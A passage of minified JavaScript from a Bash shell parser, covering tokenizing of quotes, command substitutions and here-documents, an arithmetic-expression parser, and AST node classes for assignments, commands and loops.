return r;let n=e.charCodeAt(r);if(n===64||n===42||n===35||n===63||n===45||n===36||n===33)return r+1;if(n>=48&&n<=57){for(;r<e.length&&e.charCodeAt(r)>=48&&e.charCodeAt(
r)<=57;)r++;return r}if(n>=97&&n<=122||n>=65&&n<=90||n===95)for(r++;r<e.length;){let o=e.charCodeAt(r);if(o>=97&&o<=122||o>=65&&o<=90||o>=48&&o<=57||o===95)r++;else
break}return r}readAnsiCQuoted(){let e=this.pos-1,s=Rn(this.src,this.pos,this.srcEnd);return this.pos=s.end,s.closed||this.errors.push({message:"unterminated AN\
SI-C quote",pos:e}),s.value}extractBalanced(e=!0,s=!1){let r=this.src,n=this.srcEnd,o=this._buildParts||this._buildValue,i=s?0:1,a=this.pos;this._unbalanced=!1;
let l=e&&!s?this.substitutionContext.boundaries?.get(a):void 0;if(l!==void 0&&l<=n&&this._nestingDepth<256)return this.pos=l,o?r.slice(a,l-1):"";let c=!0;for(;!s&&
this.pos<n;){let V=r.charCodeAt(this.pos);if(V===41){let ye=o?r.slice(a,this.pos):"";return this.pos++,ye}else{if(V===40||V===92||V===39||V===34||V===96||V===36&&
(r.charCodeAt(this.pos+1)===39||r.charCodeAt(this.pos+1)===36||r.charCodeAt(this.pos+1)===123))break;if(V===60&&this.pos+1<n&&r.charCodeAt(this.pos+1)===60)break;
if(V===35&&c)break;if(V===99&&c&&this.pos+3<n&&r.charCodeAt(this.pos+1)===97&&r.charCodeAt(this.pos+2)===115&&r.charCodeAt(this.pos+3)===101&&(this.pos+4>=n||r.
charCodeAt(this.pos+4)<128&&le[r.charCodeAt(this.pos+4)]&1))break;c=V<128&&(le[V]&1)!==0,this.pos++}}let d=0,u=0,p=[],f=null,m,h=-1,g=a>=2&&r.charCodeAt(a)===40&&
r.charCodeAt(a-1)===40&&r.charCodeAt(a-2)===36,y=0,x=!1,_=s?[{close:34,depth:0}]:[],E=s?1:0,$=0,T,q=-1,A=-1,N=-1,j=-1,xe=!1;for(;this.pos<n&&(i>0||_.length>0);){
let V=r.charCodeAt(this.pos),ye=_.length===0?void 0:_[_.length-1];if(ye!==void 0&&ye.depth===i){let U=!1;if(V===92){this.pos=Math.min(this.pos+2,n);continue}if(V===
ye.close){if(_.pop(),V===34?E--:$--,this.pos++,s&&i===0&&_.length===0)return"";continue}if(V===34)_.push({close:34,depth:i}),E++;else if(V===39&&ye.close===125){
this.pos++,this.skipSQ();continue}else if(V===96){for(this.pos++;this.pos<n&&r.charCodeAt(this.pos)!==96;)r.charCodeAt(this.pos)===92&&this.pos++,this.pos<n&&this.
pos++;this.pos<n&&this.pos++;continue}else if(V===36){let ne=r.charCodeAt(this.pos+1);if(ne===39&&ye.close===125){this.pos+=2,this.skipAnsiCQuoted();continue}if(ne===
123)_.push({close:125,depth:i}),$++,this.pos++;else if(ne===40)this.pos++,V=40,U=!0;else if(ne===36){this.pos+=r.charCodeAt(this.pos+2)===40?1:2;continue}}if(!x&&
this._nestingDepth+Math.max(E,$)>256&&(this.errors.push({message:"maximum word nesting depth exceeded",pos:this.pos}),x=!0),!U){for(this.pos++;this.pos<n;){let ne=r.
charCodeAt(this.pos);if(ne===92||ne===34||ne===36||ne===96||ne===125||ne===39)break;this.pos++}continue}}if(V===35&&j!==-1&&!g&&h<0&&e&&!xe&&this._nestingDepth+
(m?.length??0)<256&&In(r,j,n)===this.pos){xe=!0;let U=m?.[m.length-1],ne=this.findSubstitutionEnd(U?.start??a,n,this._nestingDepth+(m?.length??0)+1);if(ne!==-1){
if(U===void 0)return this.pos=ne,o?r.slice(a,ne-1):"";this.pos=ne-1,i=U.depth+1,d=0,u=0,p.length=U.parens+1,V=41}}if(V===40){let U=this.pos>a&&this.pos!==N?r.charCodeAt(
this.pos-1):0,ne=U===36?this.pos-1:this.pos===A?q:-1,vo=ne!==-1||U===60||U===62||U===61||U===64||U===63||U===42||U===43||U===33||U===40&&p[p.length-1]===!1||g&&
this.pos===a,Ka=ne!==-1&&r.charCodeAt(this.pos+1)!==40||(U===60||U===62)&&h<0&&!g;Ka&&((m??(m=[])).push({start:this.pos+1,dollar:ne,depth:i,parens:p.length,caseDepth:d,
caseParens:u,arithBase:h,arithExtent:g,substitutions:y,checkedGrammar:xe,pendingDelims:f}),d=0,u=0,h=-1,g=!1,xe=!1,f=null),p.push(!vo),c=!0,!Ka&&h<0&&this.pos+1<
n&&r.charCodeAt(this.pos+1)===40&&(h=i),ne!==-1&&(Ka?y++:(T??(T=[])).push(i),y+(T?.length??0)+this._nestingDepth+(s?0:1)>256&&!x&&(this.errors.push({message:"ma\
ximum command substitution nesting depth exceeded",pos:ne}),x=!0)),q=-1,A=-1,i++,d>0&&u++,this.pos++}else if(V===41){if(d>0&&u===0)this.pos++,c=!0;else{if(d>0&&
u--,i--,i===0&&!s){let ne=o?r.slice(a,this.pos):"";return this.pos++,ne}if(i<=h&&(h=-1),T!==void 0)for(;T.length>0&&T[T.length-1]>=i;)T.pop();c=p.pop()??!0,this.
pos++;let U=m?.[m.length-1];U!==void 0&&U.depth===i&&(m.pop(),d=U.caseDepth,u=U.caseParens,h=U.arithBase,g=U.arithExtent,y=U.substitutions,xe=U.checkedGrammar,f=
U.pendingDelims)}j=this.pos}else if(V===92){if(this.pos>a&&r.charCodeAt(this.pos-1)===36){let U=rt(r,this.pos,n);U>this.pos&&r.charCodeAt(U)===40&&r.charCodeAt(
U+1)!==40&&(q=this.pos-1,A=U)}this.pos++,this.pos<n&&(r.charCodeAt(this.pos)!==10&&(c=!1),this.pos++),N=this.pos}else if(V===36){let U=r.charCodeAt(++this.pos);
U===39?(this.pos++,this.skipAnsiCQuoted()):U===36?this.pos++:U===123&&!m_(r.charCodeAt(this.pos+1))&&(_.push({close:125,depth:i}),$++,this.pos++),c=!1}else if(V===
39)this.pos++,this.skipSQ(),c=!1;else if(V===34)_.push({close:34,depth:i}),E++,this.pos++,c=!1;else if(V===96){for(this.pos++;this.pos<n&&r.charCodeAt(this.pos)!==
96;)r.charCodeAt(this.pos)===92&&this.pos++,this.pos<n&&this.pos++;this.pos<n&&this.pos++,c=!1}else if(V===60&&h<0&&this.pos+1<n&&r.charCodeAt(this.pos+1)===60){
if(this.pos+2<n&&r.charCodeAt(this.pos+2)===60)this.pos+=3;else{this.pos+=2;let U=this.pos<n&&r.charCodeAt(this.pos)===45;U&&this.pos++,this.skipSpacesAndTabs(),
this.readHereDocDelimiter(),(this._hereDelim||this._hereQuoted)&&(f??(f=[])).push({delimiter:this._hereDelim,strip:U,quoted:this._hereQuoted})}c=!1}else if(V===
10&&f){this.pos++;for(let U of f)this.skipHereDocBody(U.delimiter,U.strip,!0,U.quoted);f=null,c=!0}else if(V===35&&h<0&&!g&&c)for(;this.pos<n&&r.charCodeAt(this.
pos)!==10;)this.pos++;else{let U=this.pos;for(;this.pos<n;){let ne=r.charCodeAt(this.pos);if(ne<128&&le[ne])break;this.pos++}if(this.pos>U){if(this.pos-U===4&&c&&
h<0&&!g){let vo=r.charCodeAt(U);vo===99&&r.charCodeAt(U+1)===97&&r.charCodeAt(U+2)===115&&r.charCodeAt(U+3)===101?d++:vo===101&&r.charCodeAt(U+1)===115&&r.charCodeAt(
U+2)===97&&r.charCodeAt(U+3)===99&&d>0&&(d--,d===0&&(u=0))}c=!1}else{let ne=r.charCodeAt(this.pos);c=ne<128&&(le[ne]&1)!==0,this.pos++}}}return this._unbalanced=
!0,s&&m!==void 0&&m.length>0&&this.errors.push({message:"unterminated command substitution",pos:m[0].dollar}),o?r.slice(a,this.pos):""}};function bc(t){switch(t){case",":return 1;case"=":case"+=":case"-=":case"*=":case"/=":case"%=":case"<<=":case">>=":case"&=":case"|=":case"^=":return 2;case"||":
return 4;case"&&":return 5;case"|":return 6;case"^":return 7;case"&":return 8;case"==":case"!=":return 9;case"<":case"<=":case">":case">=":return 10;case"<<":case"\
>>":return 11;case"+":case"-":return 12;case"*":case"/":case"%":return 13;case"**":return 14;case"?":return 3;default:return-1}}function fh(t,e,s){for(;s>e;){let r=t.
charCodeAt(s-1);if(r!==32&&r!==9&&r!==10)break;s--}return s}function h_(t){switch(t){case"=":case"+=":case"-=":case"*=":case"/=":case"%=":case"<<=":case">>=":case"\
&=":case"|=":case"^=":case"**":return!0;default:return!1}}function yc(t,e=0,s,r=0){let n=0,o=t.length,i=s?.embeddedWords.length??0;function a(E,$,T=!1){let q={type:"\
ArithmeticWord",pos:E+e,end:$+e,value:t.slice(E,$),parts:void 0};return T&&s?.embeddedWords.push(q),q}function l(){for(;n<o;){let E=t.charCodeAt(n);if(E===32||E===
9||E===10)n++;else break}}function c(){if(n>=o)return null;let E=t.charCodeAt(n),$=n+1<o?t.charCodeAt(n+1):0,T=n+2<o?t.charCodeAt(n+2):0;switch(E){case 44:return n++,
",";case 61:return $===61?(n+=2,"=="):(n++,"=");case 33:return $===61?(n+=2,"!="):null;case 60:return $===60?T===61?(n+=3,"<<="):(n+=2,"<<"):$===61?(n+=2,"<="):
(n++,"<");case 62:return $===62?T===61?(n+=3,">>="):(n+=2,">>"):$===61?(n+=2,">="):(n++,">");case 43:return $===61?(n+=2,"+="):$===43?null:(n++,"+");case 45:return $===
61?(n+=2,"-="):$===45?null:(n++,"-");case 42:return $===42?(n+=2,"**"):$===61?(n+=2,"*="):(n++,"*");case 47:return $===61?(n+=2,"/="):(n++,"/");case 37:return $===
61?(n+=2,"%="):(n++,"%");case 124:return $===124?(n+=2,"||"):$===61?(n+=2,"|="):(n++,"|");case 38:return $===38?(n+=2,"&&"):$===61?(n+=2,"&="):(n++,"&");case 94:
return $===61?(n+=2,"^="):(n++,"^");case 63:return n++,"?";default:return null}}function d(){for(l();n<o;){let $=t.charCodeAt(n);if($!==33&&$!==126&&$!==43&&$!==
45||t.charCodeAt(n+1)===61)break;n++,l()}if(t.charCodeAt(n)===40){let $=1;for(n++;n<o&&$>0;){let T=s?.findArithmeticWordEnd?.(n+e,e+o)??n+e;if(T>n+e){n=T-e;continue}
let q=t.charCodeAt(n++);q===40?$++:q===41&&$--}}else n<o&&t.charCodeAt(n)!==41&&t.charCodeAt(n)!==58&&h(0);l();let E=t.charCodeAt(n);(E===43||E===45)&&t.charCodeAt(
n+1)===E&&(n+=2)}function u(E){l();let $=n;if($===o)return a($,$);let T=s?.embeddedWords.length??0,q=0;for(;;){if(d(),l(),t.charCodeAt(n)===58&&q>0){q--,n++;continue}
let A=n,N=c();if(N===null||q===0&&bc(N)<E){n=A;break}N==="?"&&q++}return s&&(s.embeddedWords.length=T),a($,fh(t,$,n))}function p(E,$){if($>256)return u(E);let T=f(
$);for(;l(),!(n>=o);){let q=n,A=c();if(!A)break;if(A==="?"){if(bc(A)<E){n=q;break}let V=p(1,$+1);l(),n<o&&t.charCodeAt(n)===58&&n++;let ye=p(3,$+1);T={type:"Ari\
thmeticTernary",pos:T.pos,end:ye.end,test:T,consequent:V,alternate:ye};continue}let N=bc(A);if(N<E){n=q;break}let j=h_(A)?N:N+1,xe=p(j,$+1);T={type:"ArithmeticB\
inary",pos:T.pos,end:xe.end,operator:A,left:T,right:xe}}return T}function f(E){if(l(),E>256)return u(15);if(n>=o)return a(n,n);let $=n,T=t.charCodeAt(n),q=n+1<o?
t.charCodeAt(n+1):0;if(T===43&&q===43){n+=2;let A=f(E+1);return{type:"ArithmeticUnary",pos:$+e,end:A.end,operator:"++",operand:A,prefix:!0}}if(T===45&&q===45){n+=
2;let A=f(E+1);return{type:"ArithmeticUnary",pos:$+e,end:A.end,operator:"--",operand:A,prefix:!0}}if(T===33){n++;let A=f(E+1);return{type:"ArithmeticUnary",pos:$+
e,end:A.end,operator:"!",operand:A,prefix:!0}}if(T===126){n++;let A=f(E+1);return{type:"ArithmeticUnary",pos:$+e,end:A.end,operator:"~",operand:A,prefix:!0}}if(T===
43&&q!==43&&q!==61){n++;let A=f(E+1);return{type:"ArithmeticUnary",pos:$+e,end:A.end,operator:"+",operand:A,prefix:!0}}if(T===45&&q!==45&&q!==61){n++;let A=f(E+
1);return{type:"ArithmeticUnary",pos:$+e,end:A.end,operator:"-",operand:A,prefix:!0}}return m(E)}function m(E){let $=h(E);if(l(),n+1<o){let T=t.charCodeAt(n),q=t.
charCodeAt(n+1);if(T===43&&q===43)return n+=2,{type:"ArithmeticUnary",pos:$.pos,end:n+e,operator:"++",operand:$,prefix:!1};if(T===45&&q===45)return n+=2,{type:"\
ArithmeticUnary",pos:$.pos,end:n+e,operator:"--",operand:$,prefix:!1}}return $}function h(E){if(l(),n>=o)return a(n,n);let $=t.charCodeAt(n);if($===40){let j=n;
n++;let xe=p(0,E+1);return l(),n<o&&t.charCodeAt(n)===41&&n++,{type:"ArithmeticGroup",pos:j+e,end:n+e,expression:xe}}if($===36){let j=n,xe=s?.embeddedWords.length??
0,V=g(),ye=s?.findArithmeticWordEnd?.(j+e,e+o)??n+e;return ye>n+e?(s&&(s.embeddedWords.length=xe),n=ye-e,a(j,n,!0)):V}if($===96||$===34||$===39){let j=n;return n=
(s?.findArithmeticWordEnd?.(j+e,e+o)??j+e+1)-e,a(j,n,!0)}let T=n,q=s?.embeddedWords.length??0,A=y(),N=s?.findArithmeticWordEnd?.(T+e,e+o)??n+e;return N>n+e?(s&&
(s.embeddedWords.length=q),n=N-e,a(T,n,!0)):A}function g(){let E=n;if(n++,n>=o)return a(E,n);let $=t.charCodeAt(n);if($===40)if(n+1<o&&t.charCodeAt(n+1)===40){let T=s?.
findArithmeticExpansionEnd(E+e,e+o)??-1;if(T!==-1)n=T-e;else{n+=2;let q=1;for(;n<o&&q>0;)t.charCodeAt(n)===40&&t.charCodeAt(n+1)===40?(q++,n+=2):t.charCodeAt(n)===
41&&t.charCodeAt(n+1)===41?(q--,n+=2):n++}}else{n++;let T=s?.findClosingParenthesis(n+e,e+o)??-1;if(T!==-1)n=T-e+1;else{let A=1;for(;n<o&&A>0;){let N=t.charCodeAt(
n++);N===40?A++:N===41&&A--}}let q=t.slice(E,n);return s?s.commandExpansion(E+e,n+e,q):new kt("ArithmeticCommandExpansion",E+e,n+e,q)}else if($===123){let T=s?.
findClosingBrace(n+e+1,e+o)??-1;if(T!==-1)n=T-e+1;else{n++;let q=1;for(;n<o&&q>0;){let A=t.charCodeAt(n++);A===123?q++:A===125&&q--}}}else for(;n<o;){let T=t.charCodeAt(
n);if(T>=97&&T<=122||T>=65&&T<=90||T>=48&&T<=57||T===95)n++;else break}return a(E,n,$===40||$===123)}function y(){let E=n;for(;n<o;){let $=t.charCodeAt(n);if($>=
48&&$<=57||$>=65&&$<=90||$>=97&&$<=122||$===95||$===35)n++;else break}if(n>E&&n<o&&t.charCodeAt(n)===91){let $=s?.findClosingBracket?.(n+e+1,e+o)??-1;if($!==-1)
n=$-e+1;else{n++;let T=1;for(;n<o&&T>0;){let q=t.charCodeAt(n);q===91?T++:q===93&&T--,n++}}return a(E,n,!0)}return n===E&&n++,a(E,n)}if(l(),n>=o)return null;let x=n,
_=p(0,r);return l(),n<o?(s&&(s.embeddedWords.length=i),a(x,fh(t,x,o),s!==void 0)):_}var Pi=(t,e)=>Ts(e.text)?Bt(e.text,0,e.text.length,void 0,e.pos):void 0;function fr(t){return t.wordParts??(t.wordParts=(e,s,r)=>g_(e,s,r,t))}function Ri(t){return t.
embeddedParts??(t.embeddedParts=(e,s,r)=>wc(e,s,r,t))}function mh(t){return t.arrayParts??(t.arrayParts=(e,s,r)=>b_(e,s,r,t))}function g_(t,e,s=0,r=Vr()){let n=new ot(
t,e.pos,e.end,!1,r);return n._nestingDepth=s,n.buildWordParts(e.pos)??void 0}function wc(t,e,s=0,r,n=!1){if(!zr(t,e.pos,e.end))return;let o=new ot(t,e.pos,e.end,
!1,r);return o._nestingDepth=s,o.buildEmbeddedWordParts(e.pos,n)??void 0}function b_(t,e,s=0,r){let n=new ot(t,e.pos,e.end,!1,r);return n._nestingDepth=s,n.buildArrayElementParts(
e.pos)??void 0}function hh(t,e,s=0,r){let n=new ot(t,e.pos,e.end,!1,r);return n._nestingDepth=s,n.buildHereDocParts(e.pos,e.end)??void 0}function Gr(t,e,s,r,n,o=r){if(!zr(s,e,e+t.length))return yc(t,e,void 0,r)??void 0;let i=[],a=new ot(s,0,s.length,!1,n);a._nestingDepth=r;let l=yc(t,e,{embeddedWords:i,
commandExpansion:(c,d,u)=>new kt("ArithmeticCommandExpansion",c,d,u,{source:s,start:c+2,end:d-1,depth:r+1,parenBoundary:!0,context:n}),findClosingBracket:(c,d)=>a.
findClosingBracket(c,d),findClosingBrace:(c,d)=>a.findClosingBrace(c,d),findClosingParenthesis:(c,d)=>a.findClosingParenthesis(c,d),findArithmeticExpansionEnd:(c,d)=>a.
findArithmeticExpansionEnd(c,d),findArithmeticWordEnd:(c,d)=>a.findArithmeticWordEnd(c,d)},r)??void 0;if(o<=256)for(let c of i)c.parts=wc(s,c,o,n,!0);return l}var kc=class{type="ArrayValue";pos;end;#e;#t;#r;#s;constructor(e,s,r,n,o){this.pos=s,this.end=r,this.#e=e,this.#t=n,this.#r=o}get elements(){if(this.#s)return this.#s;
let e=new ot(this.#e,this.pos+1,this.end-1,!1,this.#r);e._nestingDepth=this.#t;let s=[];for(;e.peek(C.ArrayElement).token!==b.EOF;){let r=e.next(C.ArrayElement);
if(r.token!==b.Word&&r.token!==b.Assignment)continue;let n=r.raw?r.value:this.#e.slice(r.pos,r.end),o=n.charCodeAt(0)===91,i=e.getSubstitutionContext(),a=!o&&r.
raw&&r.keywordEligible?void 0:this.#e,l=a===void 0?Pi:o?mh(i):fr(i);s.push(new We(n,r.pos,r.end,a,l,this.#t))}return this.#s=s,s}toJSON(){return{type:this.type,
pos:this.pos,end:this.end,elements:this.elements}}},Ii=class{type="Assignment";pos;end;text;#e;#t;#r;#s;#n=null;#a;#i;#o=null;constructor(e,s,r,n,o,i,a){this.pos=
s,this.end=r,this.text=e,this.#e=n,this.#s=o,this.#t=i,this.#r=a}get name(){return this.#n??this.resolveTarget()}get append(){return this.#n===null&&this.resolveTarget(),
this.#a}get index(){return this.#n===null&&this.resolveTarget(),this.#i}get value(){if(this.#o!==null)return this.#o;let e=this.#s+1,s=rt(this.#e,e,this.end);return this.#o=
this.#e.charCodeAt(s)===40&&this.#e.charCodeAt(this.end-1)===41?new kc(this.#e,s,this.end,this.#t,this.#r):new We(this.#e.slice(e,this.end),e,this.end,this.#e,fr(
this.#r),this.#t),this.#o}resolveTarget(){let e=this.#s-this.pos,s=e,r=e;for(;r>=2&&this.text.charCodeAt(r-2)===92&&this.text.charCodeAt(r-1)===10;)r-=2;this.text.
charCodeAt(r-1)===43&&(this.#a=!0,s=r-1);let n=this.text.indexOf("[");if(n>0&&n<s){let i=this.text.lastIndexOf("]",e);if(i>n){let a=this.pos+n+1,l=this.pos+i;this.#i=
new We(this.#e.slice(a,l),a,l,this.#e,Ri(this.#r),this.#t),s=n}}let o=this.text.slice(0,s);return this.#n=o.includes(`\\
`)?o.split(`\\
`).join(""):o}toJSON(){return{type:this.type,pos:this.pos,end:this.end,text:this.text,name:this.name,append:this.append,index:this.index,value:this.value}}};var vc=t=>t.type==="Word"||t.type==="Assignment",Nn=class{type="Command";pos;end;name;prefix;suffix;#e;#t;constructor(e,s,r,n,o){this.pos=e,this.end=s,this.name=
r,this.prefix=n,this.suffix=o}get args(){if(this.#e===void 0){let e=this.suffix;this.#e=e.every(vc)?e:e.filter(vc)}return this.#e}get redirects(){if(this.#t===void 0){
let e=[];for(let s of this.prefix)s.type!=="Assignment"&&e.push(s);for(let s of this.suffix)vc(s)||e.push(s);this.#t=e}return this.#t}toJSON(){return{type:this.
type,pos:this.pos,end:this.end,name:this.name,prefix:this.prefix,suffix:this.suffix}}};var qi=class{type="HereDocBody";pos;end;text="";#e;#t;#r;#s;constructor(e,s,r,n,o){this.pos=s,this.end=s,this.#e=e,this.#t=n,this.#r=o,this.#s=r?void 0:null}get parts(){
return this.#s===null&&(this.#s=hh(this.#e,this,this.#t,this.#r)),this.#s}toJSON(){return{type:this.type,pos:this.pos,end:this.end,text:this.text,parts:this.parts}}};ot._findSubstitutionEnd=S_;kt._resolveScript=__;Fr._resolveExpression=Gr;function y_(t){switch(t.length){case 5:return t==="local"||t==="alias";case 6:return t===
"export";case 7:return t==="declare"||t==="typeset";case 8:return t==="readonly";default:return!1}}var $c=class{type="ArithmeticCommand";pos;end;body;#e;#t;#r;#s=null;constructor(e,s,r,n,o,i){
this.pos=e,this.end=s,this.body=r,this.#e=n,this.#t=o,this.#r=i}get expression(){return this.#s===null&&(this.#s=Gr(this.body,this.pos+2,this.#e,this.#t,this.#r)),
this.#s}set expression(e){this.#s=e??void 0}toJSON(){return{type:this.type,pos:this.pos,end:this.end,expression:this.expression,body:this.body}}},Ln=class{type="\
ArithmeticFor";pos;end;body;#e;#t;#r;#s;#n;#a;#i;#o;#u;#l=null;#c=null;#d=null;constructor(e,s,r,n,o,i,a,l,c,d,u,p){this.pos=e,this.end=s,this.body=r,this.#e=n,
this.#t=o,this.#r=i,this.#s=a,this.#n=l,this.#a=c,this.#i=d,this.#o=u,this.#u=p}get initialize(){return this.#l===null&&(this.#e?this.#l=Gr(this.#e,this.#s,this.#i,
this.#o,this.#u):this.#l=void 0),this.#l}set initialize(e){this.#l=e??void 0}get test(){return this.#c===null&&(this.#t?this.#c=Gr(this.#t,this.#n,this.#i,this.#o,
this.#u):this.#c=void 0),this.#c}set test(e){this.#c=e??void 0}get update(){return this.#d===null&&(this.#r?this.#d=Gr(this.#r,this.#a,this.#i,this.#o,this.#u):
this.#d=void 0),this.#d}set update(e){this.#d=e??void 0}toJSON(){return{type:this.type,pos:this.pos,end:this.end,initialize:this.initialize,test:this.test,update:this.
update,body:this.body}}},w_={[b.DoubleSemi]:";;",[b.SemiAmp]:";&",[b.DoubleSemiAmp]:";;&"},k_={">":">",">>":">>","<":"<","<>":"<>","<&":"<&",">&":">&",">|":">|",
"&>":"&>","&>>":"&>>"},et=new Uint8Array(37);et[b.EOF]=1;et[b.RParen]=1;et[b.RBrace]=1;et[b.Then]=1;et[b.Else]=1;et[b.Elif]=1;et[b.Fi]=1;et[b.Do]=1;et[b.Done]=1;
et[b.Esac]=1;et[b.DoubleSemi]=1;et[b.SemiAmp]=1;et[b.DoubleSemiAmp]=1;var hs=new Uint8Array(37);hs[b.RParen]=1;hs[b.RBrace]=1;hs[b.DblRBracket]=1;hs[b.Fi]=1;hs[b.
Done]=1;hs[b.Esac]=1;hs[b.ArithCmd]=1;function gh(t){return t.token===b.Word&&t.keywordEligible&&t.value==="!"}var Ve=new Uint8Array(37);Ve[b.Word]=1;Ve[b.Assignment]=
1;Ve[b.Bang]=1;Ve[b.LParen]=1;Ve[b.LBrace]=1;Ve[b.DblLBracket]=1;Ve[b.If]=1;Ve[b.For]=1;Ve[b.While]=1;Ve[b.Until]=1;Ve[b.Case]=1;Ve[b.Function]=1;Ve[b.Select]=1;
Ve[b.ArithCmd]=1;Ve[b.Coproc]=1;Ve[b.Redirect]=1;var v_={"-a":1,"-b":1,"-c":1,"-d":1,"-e":1,"-f":1,"-g":1,"-h":1,"-k":1,"-p":1,"-r":1,"-s":1,"-t":1,"-u":1,"-v":1,
"-w":1,"-x":1,"-z":1,"-n":1,"-o":1,"-N":1,"-S":1,"-L":1,"-G":1,"-O":1,"-R":1},x_={"==":1,"!=":1,"=~":1,"=":1,"-eq":1,"-ne":1,"-lt":1,"-le":1,"-gt":1,"-ge":1,"-n\
t":1,"-ot":1,"-ef":1,"<":1,">":1},bh=[],$_=[],xc=[];function Sc(t){return new Dn(t,0,t.length).run()}function __(t,e,s,r=0,n=!1,o){return new Dn(t,e,s,r,n,void 0,
o).run()}var _c=class t extends ot{boundaries;pending;context;constructor(e,s,r,n,o,i=!0){super(e,s.start,s.end,i,o),this._nestingDepth=s.depth,this.boundaries=
r,this.pending=n,this.context=o}fork(e,s,r=!1){return new t(this.getSource(),{start:e,end:s,depth:this._nestingDepth},this.boundaries,this.pending,this.context,
r)}findSubstitutionEnd(e,s,r=this._nestingDepth+1){let n=this.context.boundaries?.get(e);if(n!==void 0)return n<=s?n:-1;let o=this.boundaries.get(e);return o!==
void 0?o<=s?o:-1:(this.boundaries.has(e)||(this.boundaries.set(e,void 0),this.pending.push({start:e,end:s,depth:r})),-1)}};function S_(t,e,s,r,n){let o=new Map(
[[e,void 0]]),i=[{start:e,end:s,depth:r}];for(;i.length>0;){let a=i.length,l=i[a-1],c=new _c(t,l,o,i,n),d=new Dn(t,l.start,l.end,l.depth,!0,c).findSubstitutionEnd();
i.length===a&&(o.set(l.start,d),d!==-1&&pc(n).set(l.start,d),i.pop())}return o.get(e)??-1}var Dn=class{tok;source;start;end;depth;errors=null;syntaxDepth=0;constructor(e,s,r,n=0,o=!1,i,a){
this.tok=i??new ot(e,s,r,o,Vr(a)),this.tok._nestingDepth=n,this.source=e,this.start=s,this.end=r,this.depth=n}run(){let e=this.start;this.depth>256&&this.error(
"maximum substitution nesting depth exceeded",e);let s;if(e===0&&this.source.charCodeAt(0)===35&&this.source.charCodeAt(1)===33){let o=this.source.indexOf(`
`);s=o===-1?this.source:this.source.slice(0,o)}let r=this.list();for(;;){let o=this.tok.peek(C.CommandStart);if(o.token===b.EOF||(this.unexpectedToken(o),!et[o.
token]&&o.token!==b.In))break;this.tok.next(C.CommandStart);let i=this.tok.peek(C.CommandStart).token;if(i!==b.Semi&&i!==b.Newline&&i!==b.Amp)break;for(;i===b.Semi||
i===b.Newline||i===b.Amp;)this.tok.next(C.CommandStart),i=this.tok.peek(C.CommandStart).token;let a=this.list();for(let l=0;l<a.length;l++)r.push(a[l])}let n=this.
tok._errors;if(n!==null&&n.length>0){let o=this.errors??(this.errors=[]);for(let i=0;i<n.length;i++)o.push(n[i])}return this.errors!==null&&this.errors.length>1&&
this.errors.sort((o,i)=>o.pos-i.pos),{type:"Script",pos:e,end:this.end,shebang:s,commands:r,errors:this.errors??void 0}}error(e,s){(this.errors??(this.errors=[])).
push({message:e,pos:s})}unexpectedToken(e){this.error(`unexpected token '${e.token===b.Newline?"newline":e.value}'`,e.pos)}findSubstitutionEnd(){return this.list(),
this.acceptEnd(b.RParen)}skipSemi(){this.tok.peek(C.Normal).token===b.Semi&&this.tok.next(C.Normal)}accept(e,s=C.Normal){return this.tok.peek(s).token===e?this.
tok.next(s):null}acceptEnd(e,s=C.Normal){return this.tok.peek(s).token===e?this.tok.next(s).end:-1}skipNewlines(e=C.Normal){for(;this.tok.peek(e).token===b.Newline;)
this.tok.next(e)}doBody(e){let s=this.list(),r=e?this.emptyListPos(s):-1;return r>=0&&this.error("expected command after 'do'",r),s}emptyListPos(e){return e.length===
0?this.tok.peek(C.CommandStart).pos:-1}makeStatement(e){return{type:"Statement",pos:e.pos,end:e.end,command:e,background:void 0}}list(){let e=[];this.skipNewlines(
C.CommandStart);let s=this.tok.peek(C.CommandStart).token;if(et[s]||!Ve[s])return e;let r=this.andOr();for(r&&e.push(this.makeStatement(r));s=this.tok.peekFollow(
hs).token,!(s!==b.Semi&&s!==b.Newline&&s!==b.Amp);){let n=s===b.Amp,o=this.tok.next(C.Normal).end;if(n){let a=e[e.length-1];a.background=!0,a.end=o}if(this.skipNewlines(
C.CommandStart),s=this.tok.peek(C.CommandStart).token,et[s]||!Ve[s])break;let i=this.andOr();i&&e.push(this.makeStatement(i))}return e}andOr(){let e=this.pipeline();
if(!e)return null;let s=this.tok.peek(C.Normal).token;if(s!==b.And&&s!==b.Or)return e;let r=[e],n=[];do{let o=this.tok.next(C.Normal),i=o.token===b.And?"&&":"||";
this.skipNewlines(C.CommandStart);let a=this.pipeline();if(!a){this.error(`expected command after '${i}'`,o.end);break}n.push(i),r.push(a),s=this.tok.peek(C.Normal).
token}while(s===b.And||s===b.Or);return{type:"AndOr",pos:e.pos,end:r[r.length-1].end,commands:r,operators:n}}withRedirects(e){let s=this.collectTrailingRedirects();
return s.length===0?e:{type:"Redirected",pos:e.pos,end:s[s.length-1].end,command:e,redirects:s}}pipeline(){let e;for(;;){let n=this.tok.peek(C.CommandStart),o=n.
token===b.Word&&n.keywordEligible&&n.value==="time";if(n.token!==b.Bang&&!o)break;let i=this.tok.next(C.CommandStart),a=i.pos,l=i.end,c,d;if(o){let u=this.tok.peek(
C.CommandStart);u.token===b.Word&&u.keywordEligible&&u.value==="-p"&&(this.tok.next(C.CommandStart),c={pos:u.pos,end:u.end},u=this.tok.peek(C.CommandStart)),u.token===
b.Word&&u.keywordEligible&&u.value==="--"&&(this.tok.next(C.CommandStart),d={pos:u.pos,end:u.end})}e===void 0&&(e=[]),e.push(o?{type:"Time",pos:a,end:d?.end??c?.
end??l,keywordEnd:l,posix:c,endOfOptions:d}:{type:"Negation",pos:a,end:l})}let s=this.pipelineCommands();if(!e)return s;let r=e[0].pos;return s?.type==="Pipelin\
e"?(s.prefixes=e,s.pos=r,s):{type:"Pipeline",pos:r,end:s?s.end:e[e.length-1].end,prefixes:e,commands:s?[s]:[],operators:[]}}pipelineCommands(){let e=this.command();
if(!e)return null;if(this.tok.peek(C.Normal).token!==b.Pipe)return e;let s=[e],r=[];for(;this.tok.peek(C.Normal).token===b.Pipe;){let o=this.tok.next(C.Normal),
i=o.value==="|&"?"|&":"|";this.skipNewlines(C.CommandStart);let a=this.command();if(!a){this.error(`expected command after '${i}'`,o.end);break}r.push(i),s.push(
a)}return s.length===1?s[0]:{type:"Pipeline",pos:e.pos,end:s[s.length-1].end,prefixes:$_,commands:s,operators:r}}command(){let e;switch(this.tok.peek(C.CommandStart).
token){case b.LParen:e=this.subshell();break;case b.LBrace:e=this.braceGroup();break;case b.If:e=this.ifClause();break;case b.For:e=this.forClause();break;case b.
